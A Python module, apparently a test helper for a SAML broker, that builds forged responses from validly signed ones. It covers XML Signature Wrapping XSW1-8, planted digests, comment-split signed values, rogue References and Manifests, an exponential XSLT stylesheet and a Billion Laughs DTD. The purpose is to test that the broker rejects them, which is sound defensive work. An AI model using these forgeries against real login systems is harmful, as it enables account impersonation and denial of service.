"""Forgeries: each attack of the corpus as a function over a validly signed response.

Everything works on lxml trees of what the test IdP signed, and turns them
back into text; nothing here knows the broker. The XML Signature Wrapping
variants follow the SAML Raider catalogue (XSW1-2 on a signed Response,
XSW3-8 on a signed Assertion); in each, the "evil" copy is the one whose
person the attacker rewrites.
"""

from __future__ import annotations

import base64
import copy
import hashlib
from collections.abc import Callable
from typing import Any, Final

import xmlsec
from lxml import etree

from broker.local.idp import SAML, SAMLP

DS: Final = "http://www.w3.org/2000/09/xmldsig#"
ASSERTION: Final = f"{{{SAML}}}Assertion"
SIGNATURE: Final = f"{{{DS}}}Signature"
EVIL_USER: Final = "victim<b>@example.com"  # markup too: it must never come back in a page

Tamper = Callable[[etree._Element], None]


def tree(xml: str) -> etree._Element:
    """Parse keeping comments: the attacker's view of the document."""
    return etree.fromstring(xml.encode())


def text(root: etree._Element) -> str:
    return etree.tostring(root, encoding="unicode")


def assertion_of(root: etree._Element) -> etree._Element:
    return root.find(ASSERTION)


def attribute_values(container: etree._Element, name: str) -> list[etree._Element]:
    """The AttributeValue elements of attribute ``name`` directly inside ``container``'s statements."""
    return [
        value
        for statement in container.findall(f"{{{SAML}}}AttributeStatement")
        for attribute in statement.findall(f"{{{SAML}}}Attribute")
        if attribute.get("Name") == name
        for value in attribute.findall(f"{{{SAML}}}AttributeValue")
    ]


def set_user(assertion: etree._Element, user: str = EVIL_USER) -> None:
    """Rewrite the person: the userid attribute and the NameID."""
    for value in attribute_values(assertion, "userid"):
        value.text = user
    assertion.find(f"{{{SAML}}}Subject/{{{SAML}}}NameID").text = user


def without_signature(element: etree._Element) -> etree._Element:
    """A deep copy of ``element`` without its own enveloped Signature."""
    clone = copy.deepcopy(element)
    for signature in clone.findall(SIGNATURE):
        clone.remove(signature)
    return clone


def edited(xml: str, change: Callable[[etree._Element], None]) -> str:
    root = tree(xml)
    change(root)
    return text(root)


# --- XML Signature Wrapping (SAML Raider XSW1-XSW8) ------------------------------------------


def xsw(number: int, xml: str, tamper: Tamper = set_user) -> str:
    """Apply SAML Raider's XSW``number`` to ``xml`` and ``tamper`` with the evil copy."""
    root = tree(xml)
    if number in (1, 2):  # the Response is signed
        original = without_signature(root)  # keeps the signed ID
        signature = root.find(SIGNATURE)
        if number == 1:
            signature.append(original)
        else:
            signature.addprevious(original)
        root.set("ID", "_evil_response")
        tamper(assertion_of(root))
        return text(root)

    assertion = assertion_of(root)
    original = without_signature(assertion)
    if number == 3:  # an evil unsigned copy before the signed original
        original.set("ID", "_evil_assertion")
        assertion.addprevious(original)
        tamper(original)
    elif number == 4:  # the signed original wrapped inside the evil copy
        original.set("ID", "_evil_assertion")
        tamper(original)
        assertion.addprevious(original)
        original.append(assertion)
    elif number in (5, 6, 8):  # the evil one keeps the signature; the unsigned original moves away
        if number != 8:
            assertion.set("ID", "_evil_assertion")
        signature = assertion.find(SIGNATURE)
        if number == 5:
            root.append(original)
        elif number == 6:
            signature.append(original)
        else:
            signature.append(etree.Element(f"{{{DS}}}Object"))
            signature[-1].append(original)
        tamper(assertion)
    elif number == 7:  # the evil unsigned copy inside Extensions
        extensions = etree.Element(f"{{{SAMLP}}}Extensions")
        assertion.addprevious(extensions)
        extensions.append(original)
        tamper(original)
    else:
        raise ValueError(f"no XSW{number}")
    return text(root)


# --- signatures made by hand ------------------------------------------------------------------


def sign(
    root: etree._Element,
    *,
    place_in: etree._Element,
    uri: str,
    key: xmlsec.Key,
    method: Any = xmlsec.Transform.RSA_SHA256,
    cert_pem: str | None = None,
) -> None:
    """An enveloped signature inside ``place_in`` (after its Issuer) over ``uri``.

    With ``cert_pem`` the certificate is offered in KeyInfo (unsigned, as IdPs do).
    """
    signature = xmlsec.template.create(root, xmlsec.Transform.EXCL_C14N, method, ns="ds")
    issuer = place_in.find(f"{{{SAML}}}Issuer")
    if issuer is not None:
        issuer.addnext(signature)
    else:
        place_in.insert(0, signature)
    reference = xmlsec.template.add_reference(signature, xmlsec.Transform.SHA256, uri=uri)
    xmlsec.template.add_transform(reference, xmlsec.Transform.ENVELOPED)
    xmlsec.template.add_transform(reference, xmlsec.Transform.EXCL_C14N)
    for element in root.iter(etree.Element):
        if element.get("ID"):
            xmlsec.tree.add_ids(element, ["ID"])
    context = xmlsec.SignatureContext()
    context.key = key
    context.sign(signature)
    if cert_pem is not None:
        key_info = etree.SubElement(signature, f"{{{DS}}}KeyInfo")
        x509 = etree.SubElement(key_info, f"{{{DS}}}X509Data")
        etree.SubElement(x509, f"{{{DS}}}X509Certificate").text = base64.b64encode(
            pem_der(cert_pem)).decode()


def rsa_key(key_pem: str) -> xmlsec.Key:
    return xmlsec.Key.from_memory(key_pem.encode(), xmlsec.KeyFormat.PEM, None)


def hmac_key(secret: bytes) -> xmlsec.Key:
    return xmlsec.Key.from_binary_data(xmlsec.KeyData.HMAC, secret)


def pem_der(cert_pem: str) -> bytes:
    body = "".join(line for line in cert_pem.splitlines() if "CERTIFICATE" not in line)
    return base64.b64decode(body)


def digest_of(element: etree._Element) -> str:
    """What an honest DigestValue over ``element`` (enveloped, exclusive c14n, SHA-256) would be."""
    canonical = etree.tostring(without_signature(element), method="c14n", exclusive=True)
    return base64.b64encode(hashlib.sha256(canonical).digest()).decode()


def plant_digest(xml: str, where: str) -> str:
    """Rewrite the person after signing and plant the digest that matches the new content.

    ``where`` is ``extensions`` (before everything signed, where a first-match
    XPath such as ``//ds:DigestValue`` finds it) or ``object`` (a ds:Object
    inside the Signature itself).
    """
    root = tree(xml)
    assertion = assertion_of(root)
    set_user(assertion)
    planted = etree.Element(f"{{{DS}}}DigestValue")
    planted.text = digest_of(assertion)
    if where == "extensions":
        extensions = etree.Element(f"{{{SAMLP}}}Extensions")
        extensions.append(planted)
        root.find(f"{{{SAML}}}Issuer").addnext(extensions)
    else:
        holder = etree.SubElement(assertion.find(SIGNATURE), f"{{{DS}}}Object")
        holder.append(planted)
    return text(root)


def comment_split(xml: str, attribute: str, signed_value: str, cut: int) -> str:
    """Split ``attribute``'s signed text with an empty comment after ``cut`` characters.

    Exclusive c14n without comments ignores the comment, so the signature still
    verifies; a reader that stops at the first text node sees only the prefix.
    """
    root = tree(xml)
    (value,) = attribute_values(assertion_of(root), attribute)
    assert value.text == signed_value
    value.text = signed_value[:cut]
    comment = etree.Comment("")
    comment.tail = signed_value[cut:]
    value.append(comment)
    return text(root)


# --- references and transforms an honest IdP never writes -------------------------------------

XSLT: Final = "http://www.w3.org/TR/1999/REC-xslt-19991116"
XPATH: Final = "http://www.w3.org/TR/1999/REC-xpath-19991116"


def signed_info(root: etree._Element) -> etree._Element:
    return root.find(f".//{{{DS}}}SignedInfo")


def extra_reference(xml: str, uri: str) -> str:
    """A second Reference (python3-saml inspects only the first) whose URI xmlsec would resolve."""
    root = tree(xml)
    first = signed_info(root).find(f"{{{DS}}}Reference")
    second = copy.deepcopy(first)
    second.set("URI", uri)
    first.addnext(second)
    return text(root)


def exponential_stylesheet(depth: int) -> etree._Element:
    """An XSLT whose template calls itself twice: 2**depth calls (about 30 s of CPU at 24)."""
    xsl = "http://www.w3.org/1999/XSL/Transform"
    return etree.XML(
        f'<xsl:stylesheet xmlns:xsl="{xsl}" version="1.0">'
        '<xsl:template match="/"><xsl:call-template name="r">'
        f'<xsl:with-param name="n" select="{depth}"/></xsl:call-template></xsl:template>'
        '<xsl:template name="r"><xsl:param name="n"/><xsl:if test="$n &gt; 0">'
        '<xsl:call-template name="r"><xsl:with-param name="n" select="$n - 1"/></xsl:call-template>'
        '<xsl:call-template name="r"><xsl:with-param name="n" select="$n - 1"/></xsl:call-template>'
        "</xsl:if></xsl:template></xsl:stylesheet>"
    )


def xpath_filter(expression: str) -> etree._Element:
    node = etree.Element(f"{{{DS}}}XPath")
    node.text = expression
    return node


def extra_transform(xml: str, algorithm: str, body: etree._Element | None) -> str:
    """One more Transform on the genuine Reference (the signature then no longer verifies;
    what matters is that the transform is refused before it runs)."""
    root = tree(xml)
    transforms = signed_info(root).find(f"{{{DS}}}Reference/{{{DS}}}Transforms")
    transform = etree.SubElement(transforms, f"{{{DS}}}Transform", Algorithm=algorithm)
    if body is not None:
        transform.append(body)
    return text(root)


def signature_moved_to_extensions(xml: str) -> str:
    root = tree(xml)
    signature = assertion_of(root).find(SIGNATURE)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(signature)
    root.find(f"{{{SAML}}}Issuer").addnext(extensions)
    return text(root)


def with_manifest(xml: str, uri: str) -> str:
    """A ds:Object carrying a Manifest whose Reference points outside the document."""
    root = tree(xml)
    signature = assertion_of(root).find(SIGNATURE)
    manifest = etree.SubElement(etree.SubElement(signature, f"{{{DS}}}Object"), f"{{{DS}}}Manifest")
    reference = copy.deepcopy(signed_info(root).find(f"{{{DS}}}Reference"))
    reference.set("URI", uri)
    manifest.append(reference)
    return text(root)


# --- documents with a DTD ---------------------------------------------------------------------

BILLION_LAUGHS: Final = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)


def with_doctype(xml: str, doctype: str, entity_in_user: str | None = None) -> str:
    """``xml`` with ``doctype`` in front and, optionally, an entity reference as the user id."""
    if entity_in_user is not None:
        root = tree(xml)
        for value in attribute_values(assertion_of(root), "userid"):
            value.text = "ENTITY-HERE"
        xml = text(root).replace("ENTITY-HERE", entity_in_user)
    return doctype + xml
